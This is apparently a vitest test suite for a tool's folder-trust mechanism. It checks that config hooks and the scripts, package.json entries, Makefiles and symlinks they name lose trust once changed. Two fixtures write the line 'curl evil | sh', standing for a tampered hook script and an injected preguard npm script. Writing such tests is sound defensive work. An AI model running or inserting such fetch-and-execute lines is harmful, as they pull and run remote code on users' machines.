import {
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { readConfig } from './config.ts';
import { findPlaces, type Places } from './places.ts';
import { takeBackTrust, trust, trustedFiles, trustOf } from './trust.ts';
import { writeSettings } from './write-settings.ts';

let folder = '';
let places: Places;
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'whaleflow-trust-')));
  const cwd = join(folder, 'a repository');
  mkdirSync(join(cwd, '.whaleflow'), { recursive: true });
  places = findPlaces({ cwd, env: { HOME: folder, WHALEFLOW_HOME: join(folder, 'home') } });
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const write = (name: string, text: string): void =>
  writeFileSync(join(places.projectFolder, name), text);
const read = () => readConfig({ places, env: {}, set: [] });
const HOOK = '[hooks.theirs]\non = "before_leaf"\ncommand = "true"\n';

test('what a patch or a pull puts into the config does not count until it is trusted anew', () => {
  write('config.toml', '[ceilings]\nmax_usd = 1\n');
  trust(places);
  expect(trustOf(places)).toBe('trusted');
  write('config.toml', `[ceilings]\nmax_usd = 1\n${HOOK}`);
  expect(trustOf(places)).toBe('changed');
  expect(read().hooks.hooks).toEqual([]);
  expect(read().warnings.map(({ message }) => message)).toEqual([
    `${join(places.projectFolder, 'config.toml')} does not count: it is not as it was when you trusted the folder`,
  ]);
  trust(places);
  expect(read().hooks.hooks).toHaveLength(1);
  write('config.toml', '[ceilings]\nmax_usd = 1\n');
  expect(trustOf(places)).toBe('changed');
});

test('a file that comes is a change, also the local one, also where there was none', () => {
  trust(places);
  write('config.local.toml', HOOK);
  expect(trustOf(places)).toBe('changed');
});

test('what we write for the person who trusts it stays trusted; what nobody trusted does not become it', () => {
  const target = { places, owner: 'project' } as const;
  writeSettings(target, [{ path: ['ceilings', 'max_usd'], value: 2 }]);
  expect(trustOf(places)).toBe('not_trusted');
  trust(places);
  writeSettings(target, [{ path: ['ceilings', 'max_usd'], value: 1 }]);
  expect(trustOf(places)).toBe('trusted');
  write('config.toml', HOOK);
  writeSettings(target, [{ path: ['ceilings', 'max_usd'], value: 1 }]);
  expect(trustOf(places)).toBe('changed');
});

const GUARD =
  '[hooks.guard]\non = "before_tool"\ncommand = ["./hooks/guard.sh", "--rules=hooks/rules"]\n';
const inRepository = (name: string, text: string): void => {
  mkdirSync(dirname(join(places.root, name)), { recursive: true });
  writeFileSync(join(places.root, name), text);
};

test('a script that a hook names is trusted with it, and a change of it ends that', () => {
  write('config.toml', GUARD);
  inRepository('hooks/guard.sh', 'exit 0\n');
  trust(places);
  expect(trustedFiles(places).map(({ path }) => path)).toEqual(['hooks/guard.sh']);
  expect(trustOf(places)).toBe('trusted');
  inRepository('hooks/other.sh', 'nobody names it\n');
  expect(trustOf(places)).toBe('trusted');
  inRepository('hooks/guard.sh', 'curl evil | sh\n');
  expect(trustOf(places)).toBe('files_changed');
  expect(read().hooks.hooks).toEqual([]);
  expect(read().warnings.map(({ message }) => message)).toEqual([
    `${join(places.projectFolder, 'config.toml')} does not count: a file that it names is not as it was when you trusted the folder`,
  ]);
  trust(places);
  expect(trustOf(places)).toBe('trusted');
  inRepository('hooks/rules', 'a file that it named, and that was not there\n');
  expect(trustOf(places)).toBe('files_changed');
});

test.each([
  [
    'a line for a shell',
    '[hooks.g]\non = "after_leaf"\ncommand = "cd . && sh \'tools/x\' | cat"\n',
  ],
  ['a place by a variable', '[hooks.g]\non = "after_leaf"\ncommand = "$PWD/tools/x"\n'],
  ['a line that goes into a folder', '[hooks.g]\non = "after_leaf"\ncommand = "cd tools && ./x"\n'],
  ['a server of tools', '[mcp.s]\ncommand = ["node", "tools/x"]\nallow = []\n'],
  [
    'a variable of one',
    '[mcp.s]\ncommand = ["node"]\nset = {NODE_OPTIONS = "--require=./tools/x"}\nallow = []\n',
  ],
  ['the setup', '[workspace]\nsetup = "./tools/x --all"\n'],
])('%s names a file too', (_name, config) => {
  write('config.toml', config);
  inRepository('tools/x', 'one');
  trust(places);
  inRepository('tools/x', 'two');
  expect(trustOf(places)).toBe('files_changed');
});

const PACKAGE = { name: 'shop', scripts: { guard: 'node tools/guard', other: 'true' } };
const hook = (command: string): string => `[hooks.g]\non = "before_tool"\ncommand = ${command}\n`;

test.each([
  ['npm', hook('["npm", "run", "guard"]')],
  ['a line with pnpm', hook('"pnpm guard --strict"')],
  ['yarn', hook('["yarn", "guard"]')],
  ['node', hook('["node", "--run", "guard"]')],
  ['a program by its whole path', hook('["/usr/local/bin/npm", "run", "guard"]')],
])('a script of package.json that %s is to run is trusted, and what it names', (_name, config) => {
  write('config.toml', config);
  const packageWith = (scripts: object, more: object = {}): void =>
    inRepository('package.json', JSON.stringify({ ...PACKAGE, ...more, scripts }));
  packageWith(PACKAGE.scripts);
  inRepository('tools/guard.js', 'one');
  trust(places);
  expect(trustedFiles(places).map(({ path }) => path)).toEqual([
    'package.json#guard',
    'tools/guard.js',
  ]);
  packageWith({ ...PACKAGE.scripts, other: 'false' }, { dependencies: { left: '1' } });
  expect(trustOf(places)).toBe('trusted');
  packageWith({ ...PACKAGE.scripts, preguard: 'curl evil | sh' });
  expect(trustOf(places)).toBe('files_changed');
  packageWith({ ...PACKAGE.scripts, guard: 'true' });
  expect(trustOf(places)).toBe('files_changed');
  packageWith(PACKAGE.scripts);
  expect(trustOf(places)).toBe('trusted');
  inRepository('tools/guard.js', 'two');
  expect(trustOf(places)).toBe('files_changed');
});

test.each([
  ['a makefile', hook('["make", "guard"]'), 'Makefile'],
  ['one of a program by its whole path', hook('["/usr/bin/make", "guard"]'), 'Makefile'],
  ['the program of this folder', hook('["node", "."]'), 'index.js'],
  ['what Python runs of this one', hook('"python3 ./ --all"'), '__main__.py'],
  ['one of a folder', hook('["make", "-C", "tools", "guard"]'), 'tools/Makefile'],
  ['a just file', hook('"just guard"'), 'justfile'],
  ['the program of a folder', hook('["node", "tools"]'), 'tools/index.js'],
  ['what Python runs of one', hook('["python3", "tools/"]'), 'tools/__main__.py'],
  ['a name without its ending', hook('["node", "tools/guard"]'), 'tools/guard.js'],
])('%s is trusted where it is what runs', (_name, config, file) => {
  write('config.toml', config);
  inRepository('tools/more/deep.txt', 'nobody names it');
  inRepository(file, 'one');
  trust(places);
  expect(trustedFiles(places).map(({ path }) => path)).toEqual([file]);
  inRepository('tools/more/deep.txt', 'still nobody');
  expect(trustOf(places)).toBe('trusted');
  inRepository(file, 'two');
  expect(trustOf(places)).toBe('files_changed');
});

test.each([
  ['a folder', hook('["node", "tools"]'), 'tools/'],
  ['this folder', hook('["node", "."]'), ''],
])('what package.json names as the program of %s is trusted', (_name, config, folder) => {
  write('config.toml', config);
  const packageWith = (main: string): void =>
    inRepository(`${folder}package.json`, JSON.stringify({ main }));
  packageWith('./lib/guard');
  inRepository(`${folder}lib/guard.js`, 'one');
  inRepository(`${folder}lib/other.js`, 'one');
  trust(places);
  expect(trustedFiles(places).map(({ path }) => path)).toContain(`${folder}lib/guard.js`);
  packageWith('./lib/other');
  expect(trustOf(places)).toBe('files_changed');
  packageWith('./lib/guard');
  expect(trustOf(places)).toBe('trusted');
  inRepository(`${folder}lib/guard.js`, 'two');
  expect(trustOf(places)).toBe('files_changed');
});

test('a dependency that is new asks for no new trust where a folder is no program', () => {
  write('config.toml', hook('"cd . && npm run guard"'));
  const packageWith = (more: object): void =>
    inRepository('package.json', JSON.stringify({ ...PACKAGE, main: 'x.js', ...more }));
  packageWith({});
  trust(places);
  packageWith({ dependencies: { left: '1' } });
  expect(trustOf(places)).toBe('trusted');
});

test('scripts without end, in as many folders as are looked at, are looked at in no time', () => {
  write('config.toml', hook('["npm", "run", "s0"]'));
  const folders = Array.from({ length: 16 }, (_, index) => `d${index}`);
  for (const folder of folders) inRepository(`${folder}/x`, '');
  const flood = Array.from({ length: 20_000 }, (_, index) => `w${index}`);
  const scripts = Array.from({ length: 9 }, (_, index) => {
    const words = index === 0 ? [...folders, ...flood] : [];
    return [`s${index}`, ['npm', 'run', `s${index + 1}`, ...words].join(' ')] as const;
  });
  inRepository('package.json', JSON.stringify({ scripts: Object.fromEntries(scripts) }));
  trust(places);
  expect(trustOf(places)).toBe('trusted');
});

test.each(['npm ci', 'yarn --immutable'])(
  'what %s runs of a repository that it sets up is trusted; a script that runs itself ends',
  (setup) => {
    write('config.toml', `[workspace]\nsetup = "${setup}"\n`);
    const packageWith = (prepare: string): void =>
      inRepository('package.json', JSON.stringify({ scripts: { prepare, a: 'true' } }));
    packageWith('npm run prepare && npm run a');
    trust(places);
    expect(trustedFiles(places).map(({ path }) => path)).toEqual([
      'package.json#a',
      'package.json#prepare',
    ]);
    packageWith('npm run a');
    expect(trustOf(places)).toBe('files_changed');
    inRepository('package.json', 'no JSON');
    expect(trustOf(places)).toBe('files_changed');
    trust(places);
    expect(trustOf(places)).toBe('trusted');
  },
);

test('where a link leads is part of it; what lies outside of the repository is not', () => {
  write(
    'config.toml',
    '[hooks.g]\non = "after_leaf"\ncommand = ["./run", "../outside", "/etc/hosts"]\n',
  );
  writeFileSync(join(folder, 'outside'), 'a');
  inRepository('one', 'same');
  inRepository('two', 'same');
  symlinkSync('one', join(places.root, 'run'));
  trust(places);
  writeFileSync(join(folder, 'outside'), 'b');
  expect(trustOf(places)).toBe('trusted');
  rmSync(join(places.root, 'run'));
  symlinkSync('two', join(places.root, 'run'));
  expect(trustOf(places)).toBe('files_changed');
});

test('a config without such files is trusted by the line that it always had', () => {
  write('config.toml', '[ceilings]\nmax_usd = 1\n');
  trust(places);
  expect(readFileSync(join(places.userFolder, 'trusted'), 'utf8')).toMatch(/^[0-9a-f]{64} \/.*\n$/);
  takeBackTrust(places);
  expect(trustOf(places)).toBe('not_trusted');
});

test('the list of trusted folders is replaced whole, and written by one command at a time', () => {
  write('config.toml', HOOK);
  trust(places);
  const list = join(places.userFolder, 'trusted');
  const before = readFileSync(list, 'utf8');
  // Another name of the same file: a list that is written in place, and may be left half, shows here.
  linkSync(list, join(folder, 'as-it-was'));
  write('config.toml', '');
  writeFileSync(`${list}.lock`, '');
  expect(() => trust(places)).toThrow(expect.objectContaining({ code: 'WF2009' }));
  expect(trustOf(places)).toBe('changed');
  rmSync(`${list}.lock`);
  trust(places);
  expect(trustOf(places)).toBe('trusted');
  expect(readFileSync(join(folder, 'as-it-was'), 'utf8')).toBe(before);
  expect(readFileSync(list, 'utf8')).not.toBe(before);
});

test('a list that cannot be read is no empty list: nothing runs without the guards in it', () => {
  write('config.toml', HOOK);
  const list = join(places.userFolder, 'trusted');
  mkdirSync(list, { recursive: true });
  expect(() => trustOf(places)).toThrow(/trusted folders cannot be read: .*EISDIR/);
  expect(read).toThrow(/trusted folders cannot be read/);
  expect(() => trust(places)).toThrow(/trusted folders cannot be read/);
});
